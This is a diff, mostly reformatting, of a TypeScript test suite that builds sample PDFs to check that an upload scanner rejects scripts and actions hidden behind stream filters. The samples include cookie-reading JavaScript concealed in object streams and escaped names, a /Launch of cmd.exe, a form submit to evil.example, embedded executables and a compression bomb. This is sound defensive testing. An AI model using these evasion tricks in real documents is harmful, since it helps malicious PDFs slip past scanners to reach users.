@@ -107,7 +107,10 @@ function writePdf(spec: PdfSpec): Buffer {
       body += `${text}\n`;
       entries.set(num, [2, streamNumber, index]);
     });
-    write(streamNumber, stream(`/Type/ObjStm/N ${spec.packed.objects.length}/First ${header.length}`, Buffer.from(header + body, 'latin1'), spec.packed.filters));
+    write(
+      streamNumber,
+      stream(`/Type/ObjStm/N ${spec.packed.objects.length}/First ${header.length}`, Buffer.from(header + body, 'latin1'), spec.packed.filters),
+    );
   }
   const xrefNumber = next;
   entries.set(xrefNumber, [1, offset, 0]);
@@ -131,10 +134,19 @@ const PAGES: [number, string][] = [
 const SCRIPT = '<</S/JavaScript/JS(app.alert\\(document.cookie\\))>>';
 const catalog = (extra: string) => `<</Type/Catalog/Pages 2 0 R${extra}>>`;
 /** The catalog, opening the document with `action`, packed in an object stream behind `filters`. */
-const packedOpenAction = (action: string, filters: Filter[]) => writePdf({ objects: PAGES, packed: { objects: [[1, catalog(`/OpenAction${action}`)]], filters } });
+const packedOpenAction = (action: string, filters: Filter[]) =>
+  writePdf({ objects: PAGES, packed: { objects: [[1, catalog(`/OpenAction${action}`)]], filters } });
 /** A page with one annotation (object 4). */
 const annotated = (annotation: string, more: [number, string | Buffer][] = []) =>
-  writePdf({ objects: [[1, catalog('')], [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'], [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>'], [4, annotation], ...more] });
+  writePdf({
+    objects: [
+      [1, catalog('')],
+      [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
+      [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>'],
+      [4, annotation],
+      ...more,
+    ],
+  });
 /** A file's bytes edited as text, the same length (the cross-reference's offsets stay right). */
 const edited = (file: Buffer, edit: (text: string) => string) => Buffer.from(edit(file.toString('latin1')), 'latin1');
 const embedded = stream('/Type/EmbeddedFile', Buffer.from('MZ not really a program'));
@@ -159,7 +171,13 @@ function predictedObjectStream(objects: [number, string][]): Buffer {
   });
   const data = deflateSync(pngUp(Buffer.from(header + body, 'latin1')));
   const entries = objects.map(([num], index) => [num, index] as const);
-  const streamObject = Buffer.concat([Buffer.from(`<</Type/ObjStm/N ${objects.length}/First ${header.length}/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>/Length ${data.length}>>stream\n`), data, Buffer.from('\nendstream')]);
+  const streamObject = Buffer.concat([
+    Buffer.from(
+      `<</Type/ObjStm/N ${objects.length}/First ${header.length}/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>/Length ${data.length}>>stream\n`,
+    ),
+    data,
+    Buffer.from('\nendstream'),
+  ]);
   // Written by hand: the catalog and its tree are in the stream (object 9), the pages outside it.
   const pdfBytes = writePdf({ objects: [...PAGES, [9, streamObject]] });
   // The cross-reference must say where the packed objects are: rewritten with type-2 entries.
@@ -186,39 +204,71 @@ function activeSamples(): Record<string, Buffer> {
     'OpenAction JavaScript behind ASCII85Decode then FlateDecode': packedOpenAction(SCRIPT, ['ASCII85Decode', 'FlateDecode']),
     'OpenAction JavaScript in an LZWDecode object stream': packedOpenAction(SCRIPT, ['LZWDecode']),
     'OpenAction JavaScript in a RunLengthDecode object stream': packedOpenAction(SCRIPT, ['RunLengthDecode']),
-    'OpenAction JavaScript in an object stream without /Type': edited(packedOpenAction(SCRIPT, ['ASCIIHexDecode']), (text) => text.replace('/Type/ObjStm', '/Kind/ObjStm')),
+    'OpenAction JavaScript in an object stream without /Type': edited(packedOpenAction(SCRIPT, ['ASCIIHexDecode']), (text) =>
+      text.replace('/Type/ObjStm', '/Kind/ObjStm'),
+    ),
     'escaped names /J#61vaScript and /J#53 in an ASCIIHex object stream': packedOpenAction('<</S/J#61vaScript/J#53(app.alert\\(1\\))>>', ['ASCIIHexDecode']),
     'lower-case escapes /#4aavaScript and /#4aS in a Flate object stream': packedOpenAction('<</S/#4aavaScript/#4aS(app.alert\\(1\\))>>', ['FlateDecode']),
     'a /Names /JavaScript tree': writePdf({ objects: [[1, catalog('/Names<</JavaScript 4 0 R>>')], ...PAGES, [4, '<</Names[(init) 5 0 R]>>'], [5, SCRIPT]] }),
-    'a /Names /JavaScript tree in a Flate object stream with a PNG predictor': predictedObjectStream([[1, catalog('/Names<</JavaScript 4 0 R>>')], [4, '<</Names[(init) 5 0 R]>>'], [5, SCRIPT]]),
+    'a /Names /JavaScript tree in a Flate object stream with a PNG predictor': predictedObjectStream([
+      [1, catalog('/Names<</JavaScript 4 0 R>>')],
+      [4, '<</Names[(init) 5 0 R]>>'],
+      [5, SCRIPT],
+    ]),
     'a /Launch action': writePdf({ objects: [[1, catalog('/OpenAction<</S/Launch/F(cmd.exe)>>')], ...PAGES] }),
-    'a /SubmitForm action on a button': annotated('<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 50 20]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>'),
+    'a /SubmitForm action on a button': annotated(
+      '<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 50 20]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>',
+    ),
     'an /ImportData action': packedOpenAction('<</S/ImportData/F(data.fdf)>>', ['FlateDecode']),
     'a /GoToE action': packedOpenAction('<</S/GoToE/NewWindow true/T<</R/C/N(inner)>>>>', ['ASCII85Decode']),
-    'an embedded file (/Names /EmbeddedFiles)': writePdf({ objects: [[1, catalog('/Names<</EmbeddedFiles<</Names[(setup.exe) 4 0 R]>>>>')], ...PAGES, [4, '<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>'], [5, embedded]] }),
-    'a FileAttachment annotation': annotated('<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>', [[5, '<</Type/Filespec/F(notes.txt)/EF<</F 6 0 R>>>>'], [6, embedded]]),
+    'an embedded file (/Names /EmbeddedFiles)': writePdf({
+      objects: [
+        [1, catalog('/Names<</EmbeddedFiles<</Names[(setup.exe) 4 0 R]>>>>')],
+        ...PAGES,
+        [4, '<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>'],
+        [5, embedded],
+      ],
+    }),
+    'a FileAttachment annotation': annotated('<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>', [
+      [5, '<</Type/Filespec/F(notes.txt)/EF<</F 6 0 R>>>>'],
+      [6, embedded],
+    ]),
     'a RichMedia annotation': annotated('<</Type/Annot/Subtype/RichMedia/Rect[0 0 20 20]/RichMediaContent<<>>>>'),
-    'an XFA form': writePdf({ objects: [[1, catalog('/AcroForm<</Fields[]/XFA 4 0 R>>')], ...PAGES, [4, stream('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>'), ['FlateDecode'])]] }),
+    'an XFA form': writePdf({
+      objects: [
+        [1, catalog('/AcroForm<</Fields[]/XFA 4 0 R>>')],
+        ...PAGES,
+        [4, stream('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>'), ['FlateDecode'])],
+      ],
+    }),
     // Two copies of the catalog: the cross-reference names the first, which a reader keeping the last never sees.
-    'an earlier copy of the catalog, the one the cross-reference names': writePdf({ objects: [[1, catalog(`/OpenAction${SCRIPT}`)], ...PAGES, [1, catalog('')]] }),
+    'an earlier copy of the catalog, the one the cross-reference names': writePdf({
+      objects: [[1, catalog(`/OpenAction${SCRIPT}`)], ...PAGES, [1, catalog('')]],
+    }),
   };
 }
 
 /** A Flate stream of zeros that inflates far past what is read (64 MiB from about 64 KiB). */
-const bomb = () => writePdf({ objects: [[1, catalog('')], ...PAGES, [4, stream('/Type/ObjStm/N 1/First 4', Buffer.alloc(64 * 1024 * 1024), ['FlateDecode'])]] });
+const bomb = () =>
+  writePdf({ objects: [[1, catalog('')], ...PAGES, [4, stream('/Type/ObjStm/N 1/First 4', Buffer.alloc(64 * 1024 * 1024), ['FlateDecode'])]] });
 
 /** PDFs that cannot be read whole: refused as unreadable, not as scripted. */
 function unreadableSamples(): Record<string, Buffer> {
   const encryptDict = '<</Filter/Standard/V 2/R 3/Length 128/P -4/O<' + 'ab'.repeat(32) + '>/U<' + 'cd'.repeat(32) + '>>>';
   return {
-    'an encrypted file whose objects are in an object stream': writePdf({ objects: [...PAGES, [5, encryptDict]], packed: { objects: [[1, catalog('')]], filters: ['FlateDecode'] }, trailer: '/Encrypt 5 0 R/ID[<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]' }),
+    'an encrypted file whose objects are in an object stream': writePdf({
+      objects: [...PAGES, [5, encryptDict]],
+      packed: { objects: [[1, catalog('')]], filters: ['FlateDecode'] },
+      trailer: '/Encrypt 5 0 R/ID[<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]',
+    }),
     'an object stream behind a filter that is not for objects (JBIG2)': packedOpenAction('<</S/GoTo/D[3 0 R/Fit]>>', ['JBIG2Decode']),
-    'an object stream whose Flate data is broken': edited(packedOpenAction('<</S/GoTo/D[3 0 R/Fit]>>', ['FlateDecode']), (text) => text.replace(/stream\n[\s\S]{8}/, 'stream\nXXXXXXXX')),
+    'an object stream whose Flate data is broken': edited(packedOpenAction('<</S/GoTo/D[3 0 R/Fit]>>', ['FlateDecode']), (text) =>
+      text.replace(/stream\n[\s\S]{8}/, 'stream\nXXXXXXXX'),
+    ),
     'a file cut in the middle of an object': Buffer.concat([pdf('cut'), Buffer.from('4 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://')]),
     'a compression bomb in an object stream': bomb(),
   };
 }
-
 
 async function pdfkitDocument(options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
   const doc = new PDFKit({ size: 'A4', ...options });
@@ -243,7 +293,10 @@ async function plainSamples(): Promise<Record<string, Buffer>> {
   return {
     "the test helpers' pdf()": pdf('a CV mentioning /JSON and JavaScript skills'),
     'pdfkit output (compressed pages, a link)': await pdfkitDocument(),
-    'pdfkit output with an owner password (encrypted, no object streams)': await pdfkitDocument({ ownerPassword: 'owner', permissions: { printing: 'highResolution', modifying: false } }),
+    'pdfkit output with an owner password (encrypted, no object streams)': await pdfkitDocument({
+      ownerPassword: 'owner',
+      permissions: { printing: 'highResolution', modifying: false },
+    }),
     'pdf-lib output (object streams, an OpenAction to a page)': Buffer.from(await made.save({ useObjectStreams: true })),
     'a catalog in a Flate object stream opening on a page': packedOpenAction('[3 0 R/Fit]', ['FlateDecode']),
     'a catalog behind ASCII85 then Flate': packedOpenAction('[3 0 R/Fit]', ['ASCII85Decode', 'FlateDecode']),
@@ -268,7 +321,15 @@ describe('finding 15: scripts and actions behind filters in uploaded PDFs', () =
   it('the samples are what a viewer reads: pdf.js finds their scripts and files', async () => {
     const samples = activeSamples();
     const open = (data: Buffer) => getDocument({ data: new Uint8Array(data), isEvalSupported: false, verbosity: 0 }).promise;
-    for (const name of ['OpenAction JavaScript in an ASCIIHexDecode object stream', 'OpenAction JavaScript behind ASCII85Decode then FlateDecode', 'OpenAction JavaScript in an LZWDecode object stream', 'OpenAction JavaScript in a RunLengthDecode object stream', 'OpenAction JavaScript in an object stream without /Type', 'a /Names /JavaScript tree in a Flate object stream with a PNG predictor', 'an earlier copy of the catalog, the one the cross-reference names']) {
+    for (const name of [
+      'OpenAction JavaScript in an ASCIIHexDecode object stream',
+      'OpenAction JavaScript behind ASCII85Decode then FlateDecode',
+      'OpenAction JavaScript in an LZWDecode object stream',
+      'OpenAction JavaScript in a RunLengthDecode object stream',
+      'OpenAction JavaScript in an object stream without /Type',
+      'a /Names /JavaScript tree in a Flate object stream with a PNG predictor',
+      'an earlier copy of the catalog, the one the cross-reference names',
+    ]) {
       const doc = await open(samples[name]!);
       expect(JSON.stringify(await doc.getJSActions()), name).toContain('app.alert');
       await doc.destroy();
